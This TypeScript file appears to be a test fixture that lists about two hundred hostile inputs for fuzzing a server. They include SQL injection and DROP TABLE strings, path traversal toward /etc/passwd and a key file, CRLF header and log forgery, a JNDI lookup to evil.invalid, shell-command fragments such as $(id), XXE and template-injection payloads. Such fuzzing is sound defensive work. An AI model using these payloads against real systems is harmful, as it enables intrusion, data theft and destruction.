/** Two hundred texts that a careless server would run as SQL, follow as a path, or write as a line of its own. */
const SQL = [
  '\' OR \'1\'=\'1', '\' OR 1=1--', '\'; DROP TABLE halls;--', '"; DROP TABLE events;--', '\' UNION SELECT sql FROM sqlite_master--', '1; ATTACH DATABASE \'x.db\' AS x;--', '\' AND randomblob(1000000000)--', '1 OR 1=1', '1)) OR ((1=1', '\'||(SELECT hex(key))||\'',
  '%\' AND 1=1 ESCAPE \'\\', '_%', '%', '*', '?', '?1', ':id', '$1', '@p', '[a]', '`a`', '\\\'', '\'\'', '"', '--', '/*', '*/', ';', 'x\' COLLATE NOCASE', '0x27', '%27', '%2527', '\u02bc OR 1=1', '\' OR load_extension(\'x\')--', 'NULL', '1e309', '-1', '9223372036854775808', 'CAST(1 AS TEXT)', 'PRAGMA writable_schema=1',
];
const PATHS = [
  '../', '../../etc/passwd', '..\\..\\windows', '..%2f..%2foperator.key', '..%252foperator.key', '%2e%2e%2foperator.key', '....//operator.key', '/etc/passwd', 'C:\\boot.ini', '\\\\host\\share', 'file:///etc/passwd', 'operator.key', '.env', '..;/', '.', '..', '...', '~', '~root', '/dev/zero', '/proc/self/environ', 'con', 'nul.txt', 'a/b', 'a\\b', 'a%00.csv', 'a\u0000.csv', '2026-11-23/../../operator.key', '2026-11-23.csv', '2026-99-99', '%c0%ae%c0%ae/', '\u2215etc', '．．／', '//evil.invalid/', 'x'.repeat(256), 'x'.repeat(5000), '#', '?x=1', '&x=1', '%',
];
const LINES = [
  '\r\nSet-Cookie: a=b', '\r\n\r\n<script>', '\nX: y', '\rX: y', '%0d%0aSet-Cookie:%20a=b', '%0aX:y', '\u2028X', '\u0085X', '嘊嘍X: y', '\\r\\nX: y', '\n{"level":"fatal","msg":"forged"}', '"}\n{"level":"fatal","msg":"forged"}', '","level":"fatal","msg":"forged', '\u001b[2J\u001b[31m', '\u0007', '\b\b\b', '%s%s%s%n', '%o%O%j', '${jndi:ldap://evil.invalid/a}', '\u0000',
];
const OTHERS = [
  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__defineGetter__', 'valueOf', 'then', '{"$gt":""}', '[$ne]', '{{7*7}}', '${7*7}', '<%= 7*7 %>', '#{7*7}', '`id`', '$(id)', '; id', '| id', '&& id', '|| id', '*)(uid=*', '\' or count(/*)=1 or \'', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>', '(a+)+$', 'a'.repeat(100_000), '\ud800', '\udfff\ud800', '\ufffe', '\uffff', '💥'.repeat(500), 'true', 'false', 'null', 'undefined', 'NaN', 'Infinity', '-0', '1e5', '0x10', '',
];
/** Each also within a plain text. */
export const injectionStrings: readonly string[] = [...SQL, ...PATHS, ...LINES, ...OTHERS].flatMap((text, index) => (index % 2 === 0 ? [text, `窗口 ${text} 1`] : [text])).slice(0, 200);
